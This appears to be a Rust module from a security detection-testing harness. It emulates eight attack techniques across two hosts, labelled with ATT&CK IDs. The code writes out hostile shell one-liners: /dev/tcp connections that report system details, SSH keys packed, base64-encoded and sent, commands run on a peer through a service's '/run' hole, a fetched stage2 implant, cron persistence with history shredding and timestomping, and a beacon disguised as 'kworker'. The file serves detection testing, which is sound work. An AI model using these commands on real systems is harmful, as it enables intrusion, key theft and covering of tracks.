//! The story of two hosts: ordinary first-evers, and eight emulations of techniques, four on each, which do no harm: they
//! run plain tools, write below the folder of the workload and talk to listeners of this program.

use super::jobs::{DEPLOY_PORT, Services, WEB_PORT};
use super::oddities::{Act, finish, first_ever, from_memory, with_listener};
use super::roles::ask;
use super::stage::Stage;
use anyhow::{Context, Result};
use std::path::Path;

/// Ordinary first-evers of each host.
const FIRST_EVERS: u32 = 26;

/// Which of the two hosts.
#[derive(Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Part {
    /// The one from which the other is reached.
    Alpha,
    /// The other.
    Beta,
}

/// An emulation.
pub(super) enum Scene {
    /// The web server runs a shell that connects out (T1190, T1059.004).
    WebShell,
    /// A shell runs from memory, looks around and reports (T1620, T1082).
    MemoryFile,
    /// Keys are packed, encoded and sent away (T1552.004, T1560, T1041).
    Secrets,
    /// A shell of this host looks for the other one and runs commands there, through its deployment service (T1018, T1021).
    Lateral(String),
    /// The web server's shell fetches a tool and starts it in a session of its own (T1105, T1036).
    Implant,
    /// The user of the database asks who and where it is (T1033, T1082, T1057).
    Discovery,
    /// Something is made to run again, and marks go (T1053.003, T1070.003).
    Persistence,
    /// A hidden tool with the name of a kernel thread asks for commands (T1564.001, T1071).
    Beacon,
}

/// What a host does, in order.
pub(super) fn acts(part: Part, peer: &str) -> Vec<Act> {
    let (from, scenes) = match part {
        Part::Alpha => (1000, [Scene::WebShell, Scene::MemoryFile, Scene::Secrets, Scene::Lateral(peer.to_owned())]),
        Part::Beta => (2000, [Scene::Discovery, Scene::Implant, Scene::Persistence, Scene::Beacon]),
    };
    let mut acts: Vec<Act> = (from..from + FIRST_EVERS).map(first_ever).collect();
    for (at, scene) in [5, 12, 19, 26].into_iter().zip(scenes) {
        acts.insert(at, Act::Scene(scene));
    }
    acts
}

impl Scene {
    /// Does it; the answer is its label, its kind and the pid of its root.
    pub(super) fn play(self, stage: &Stage, services: &Services) -> Result<(String, &'static str, u32)> {
        let folder = stage.scratch("home");
        let home = folder.display().to_string();
        let (label, pid) = match self {
            Self::WebShell => {
                let talk = "exec 3<>/dev/tcp/127.0.0.1/14444; id -u >&3; head -c 3 <&3; uname -a >&3";
                with_listener(14_444, || through(WEB_PORT, talk))?;
                ("web shell connects out", services.web_server())
            }
            Self::MemoryFile => {
                let steps = "exec 3<>/dev/tcp/127.0.0.1/14446; id >&3; uname -r >&3; cat /proc/self/status >&3";
                let run = || from_memory(stage, Path::new("/bin/bash"), &["kworker", "-c", steps]);
                ("shell from memory reports", with_listener(14_446, run)?)
            }
            Self::Secrets => {
                let steps = format!(
                    "mkdir -p {home}/.ssh; date > {home}/.ssh/id_rsa; tar cf {home}/keys.tar {home}/.ssh 2>/dev/null; \
                     base64 {home}/keys.tar > {home}/keys.txt; exec 3<>/dev/tcp/127.0.0.1/14447; head -c 400 {home}/keys.txt >&3; \
                     rm -r {home}/.ssh {home}/keys.tar"
                );
                ("keys are packed and sent", with_listener(14_447, || shell(stage, &folder, &steps, 1000))?)
            }
            Self::Lateral(peer) => {
                let run =
                    "id; uname -a; getent passwd root; hostname; cut -d: -f1 /etc/passwd | head -n 3".replace(' ', "+");
                let steps = format!(
                    "id; uname -a; cat /proc/net/arp; getent hosts {peer}; ls -la /home; \
                     exec 3<>/dev/tcp/{peer}/{DEPLOY_PORT}; printf 'GET /run?{run} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null; whoami"
                );
                ("commands on the other host", shell(stage, &folder, &steps, 1001)?)
            }
            Self::Implant => {
                let tool = format!("{home}/.cache/updater");
                let fetch = stage.program("fetch");
                let steps = format!(
                    "{} --url http://127.0.0.1:14445/stage2; mkdir -p {home}/.cache; cp /bin/sleep {tool}; chmod 700 {tool}; \
                     setsid -w {tool} 0.2",
                    fetch.display()
                );
                make(&folder, 0o1777)?;
                with_listener(14_445, || through(WEB_PORT, &steps))?;
                ("web shell starts an implant", services.web_server())
            }
            Self::Discovery => {
                let steps = "whoami; id; uname -a; hostname; ps -e; find / -maxdepth 1 -perm -4000; getent passwd root; ls -la /root";
                ("looking around", shell(stage, &folder, steps, 999)?)
            }
            Self::Persistence => {
                let steps = format!(
                    "mkdir -p {home}/cron.d; printf '* * * * * root {home}/job\\n' > {home}/cron.d/update; chmod 600 {home}/cron.d/update; \
                     touch -r /etc/hostname {home}/cron.d/update; date > {home}/.bash_history; shred -u {home}/.bash_history; ln -sf /dev/null {home}/.bash_history"
                );
                ("something stays and marks go", shell(stage, &folder, &steps, 1000)?)
            }
            Self::Beacon => {
                let steps = format!(
                    "mkdir -p {home}/.x; cp {} {home}/.x/kworker; cd {home}/.x; \
                     for i in 1 2 3; do exec 3<>/dev/tcp/127.0.0.1/14449; printf 'GET /task HTTP/1.0\\r\\n\\r\\n' >&3; head -c 9 <&3 >/dev/null; break; done; \
                     ./kworker 0.1",
                    "/bin/sleep"
                );
                ("hidden tool asks for commands", with_listener(14_449, || shell(stage, &folder, &steps, 65534))?)
            }
        };
        Ok((label.to_owned(), "unusual", pid))
    }
}

/// Hands a command to the hole in a service of this host. Whoever does it is not watched, as an intruder from outside.
fn through(port: u16, command: &str) -> Result<()> {
    ask(&format!("127.0.0.1:{port}"), &format!("/run?{}", command.replace(' ', "+"))).context("the hole")
}

/// A shell that leads a session, as a login or a job does.
fn shell(stage: &Stage, home: &Path, steps: &str, user: u32) -> Result<u32> {
    make(home, 0o1777)?;
    let mut command = stage.leader_at(Path::new("/bin/bash"), user)?;
    finish(command.args(["-c", steps]).spawn().context("shell")?)
}

/// A folder for everybody.
fn make(folder: &Path, mode: u32) -> Result<()> {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(folder)?;
    Ok(std::fs::set_permissions(folder, std::fs::Permissions::from_mode(mode))?)
}
